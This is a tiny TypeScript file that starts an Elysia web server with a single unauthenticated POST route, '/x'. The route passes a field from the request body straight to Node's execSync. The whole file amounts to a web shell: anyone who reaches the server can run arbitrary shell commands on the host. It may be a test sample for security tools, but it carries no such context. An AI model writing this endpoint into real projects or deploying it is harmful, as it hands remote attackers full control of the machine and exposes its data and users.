import { execSync } from "node:child_process";
import { Elysia } from 'elysia';
new Elysia().post('/x', ({ body }) => {
  execSync((body as any).a);
}).listen(1);
